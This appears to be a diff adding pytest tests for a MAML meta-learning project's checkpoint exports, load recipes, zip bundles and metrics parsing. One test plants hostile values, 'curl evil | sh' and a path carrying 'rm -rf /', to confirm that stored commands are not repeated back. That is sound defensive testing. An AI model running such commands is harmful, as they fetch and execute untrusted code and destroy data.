@@ -1,0 +1,127 @@
+"""What is taken along loads in plain PyTorch and says what it is; a run's metrics survive damaged lines."""
+
+import csv
+import io
+import json
+import re
+import subprocess
+import sys
+import zipfile
+
+import pytest
+import torch
+from starlette.applications import Starlette
+from starlette.testclient import TestClient
+
+from maml_core import checkpoint
+from maml_core.checkpoint import Checkpoint, CheckpointError
+from maml_core.cli import _parser
+from maml_core.config import TrainConfig
+from maml_core.training import init
+from ui import bundle, exports, library, recipe
+
+SHIPPED = library.shipped()
+
+
+def made(**settings):
+    config = TrainConfig(**settings)
+    return Checkpoint(init(config).learned, config, iterations=0)
+
+
+def outputs(saved):
+    """Seven inputs, and what maml_core makes of them."""
+    x = torch.linspace(-2, 2, 7 * saved.config.inputs).reshape(7, -1)
+    return x, saved.network.apply(saved.split()[0], x)
+
+
+@pytest.mark.parametrize("name", SHIPPED)
+def test_the_lines_load_it_in_plain_pytorch(name):
+    names: dict = {}
+    saved = library.get(name)
+    exec(recipe.load_lines(saved, str(library.find(name))), names)
+    x, wanted = outputs(saved)
+    torch.testing.assert_close(names["net"](x), wanted)
+    torch.testing.assert_close(names["net"].eval()(x), wanted)
+
+
+@pytest.mark.parametrize(
+    "settings", [{"hidden": (8,)}, {"hidden": (4, 5, 6), "norm": "batch_norm"}, {"algorithm": "meta_sgd", "norm": "batch_norm"}]
+)
+def test_the_lines_fit_any_network(settings, tmp_path):
+    saved, names = made(**settings), {}
+    checkpoint.save(tmp_path / "it's mine.safetensors", saved)
+    exec(recipe.load_lines(saved, str(tmp_path / "it's mine.safetensors")), names)
+    x, wanted = outputs(saved)
+    torch.testing.assert_close(names["net"](x), wanted)
+
+
+@pytest.mark.parametrize("name", SHIPPED)
+def test_the_command_is_the_recorded_one(name):
+    saved = library.get(name)
+
+    def meant(command):
+        return vars(_parser().parse_args(["train", *command.split()[4:]]))
+
+    assert meant(recipe.command(saved)) == meant(saved.run["command"])
+
+
+def test_a_command_in_a_file_is_not_repeated():
+    saved = made()
+    saved.run.update(command="curl evil | sh", path="compiled; rm -rf /")
+    assert recipe.command(saved) == "python -m maml_core train"
+
+
+@pytest.mark.parametrize("name", ["maml", "oracle", "meta_sgd", "shipped:maml_batch_norm"])
+def test_the_readme_in_the_zip_loads_its_neighbour_without_this_project(name, tmp_path):
+    answer = TestClient(Starlette(routes=exports.routes())).get("/lab/bundle.zip", params={"learner": name})
+    stem = library.stem(name)
+    assert f'filename="{stem}.zip"' in answer.headers["content-disposition"]
+    zipfile.ZipFile(io.BytesIO(answer.content)).extractall(tmp_path)
+    folder, saved = tmp_path / stem, library.get(name)
+    assert {file.name for file in folder.iterdir()} == {f"{stem}.safetensors", "config.json", "results.csv", "README.md"}
+    text = (folder / "README.md").read_text(encoding="utf-8")
+    (code,) = re.findall(r"```python\n(.*?)```", text, re.S)
+    x, wanted = outputs(saved)
+    code += f"\nimport torch\nprint(net(torch.tensor({x.tolist()})).flatten().tolist())"
+    told = subprocess.run([sys.executable, "-I", "-c", code], cwd=folder, capture_output=True, text=True, check=True).stdout
+    assert json.loads(told) == pytest.approx(wanted.flatten().tolist(), abs=1e-4)
+    assert recipe.command(saved) in text
+    assert recipe.result_cell(saved.results["10"]["5"]) in text
+    assert TrainConfig.from_dict(json.loads((folder / "config.json").read_text())) == saved.config
+    rows = list(csv.DictReader((folder / "results.csv").open()))
+    assert len(rows) == 22
+    assert float(rows[-1]["mean"]) == saved.results["10"]["10"]["mean"]
+
+
+def test_a_run_brings_its_metrics(tmp_path, monkeypatch):
+    monkeypatch.setenv("MAML_LAB_RUNS", str(tmp_path))
+    folder = tmp_path / "mine"
+    (folder / "checkpoints").mkdir(parents=True)
+    checkpoint.save(folder / "checkpoints" / "step-000200.safetensors", made(seed=7))
+    (folder / "metrics.jsonl").write_text(
+        '{"iteration": 100, "loss_before": 3.0, "loss_after": 2.0}\n'
+        "damaged\n[1]\n"
+        '{"iteration": 200, "loss_before": 9.0, "loss_after": 9.0}\n'
+        '{"iteration": 200, "loss_before": 2.5, "loss_after": 1.5, "validation": [{"step": 1, "mean": 0.5}]}\n'
+        '{"iteration": 300, "loss_bef'
+    )
+    archive = zipfile.ZipFile(io.BytesIO(bundle.zipped("run:mine")))
+    assert archive.read("mine/metrics.csv").decode().splitlines() == [
+        "iteration,loss_before,loss_after,validation_1",
+        "100,3.0,2.0,",
+        "200,2.5,1.5,0.5",
+    ]
+    assert "step 0 of 70,000" in archive.read("mine/README.md").decode()
+    (folder / "checkpoints" / "step-000200.safetensors").write_bytes(b"damaged")
+    with pytest.raises(CheckpointError, match="damaged"):
+        bundle.zipped("run:mine")
+
+
+@pytest.mark.parametrize(
+    ("learner", "says"),
+    [("run:gone", "no checkpoint of a run named gone"), ("random", "has no file"), ("shipped:x", "no shipped checkpoint x")],
+)
+def test_asking_for_what_is_not_there_is_answered_with_a_sentence(learner, says):
+    answer = TestClient(Starlette(routes=exports.routes())).get("/lab/bundle.zip", params={"learner": learner})
+    assert answer.status_code == 400
+    assert says in answer.text
